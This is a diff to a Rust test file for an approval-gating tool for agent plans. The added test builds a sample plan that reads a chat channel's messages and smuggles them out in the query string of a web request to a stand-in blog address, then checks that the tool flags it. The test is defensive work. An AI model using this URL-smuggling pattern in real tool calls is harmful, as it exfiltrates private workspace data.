@@ -278,8 +278,23 @@ fn the_workspace_data_goes_to_the_web_only_on_a_yes_to_one_card() {
     assert_eq!(card["destination"]["text"], "https://blog.example.com/blameless-postmortems");
     assert_eq!(
         card["flows"][0]["meaning"],
-        "you let the data of the group `workspace` out to anyone, as the policy's release allows"
+        "you let the data of the group `workspace` out to anyone, as the policy's release allows: this text, word for word as it was received"
     );
+    // The channel's text put into the address is not the link bob posted: its card says so.
+    let leak = dir.join("leak.cord");
+    let text = r#"
+let general = chat.list_channels().filter(|c| !c.private && c.name == "general");
+let said = general.map(|c| chat.read_channel(c).map(|m| m.text).join(" | ")).join(" ");
+chat.get_webpage("https://blog.example.com/blameless-postmortems?ref=" + said)
+"#;
+    std::fs::write(&leak, text).unwrap();
+    let no = answers(&dir, "no\n");
+    let (_, json) =
+        cordon(&dir, &["run", "--env", "chat", "--approve", &no, "--format", "json", &leak.display().to_string()]);
+    let run: serde_json::Value = serde_json::from_str(&json).unwrap();
+    let card = run["approvals"].as_array().unwrap().iter().find_map(|a| a["card"].as_object()).unwrap();
+    let flags = serde_json::to_string(&card["flags"]).unwrap();
+    assert!(flags.contains("is built from the data of the group `workspace`, not received as it is"), "{flags}");
 
     let (code, out) = cordon(&dir, &["run", "--env", "chat", "--approve", "none", &plan]);
     assert_eq!(code, 1, "{out}");
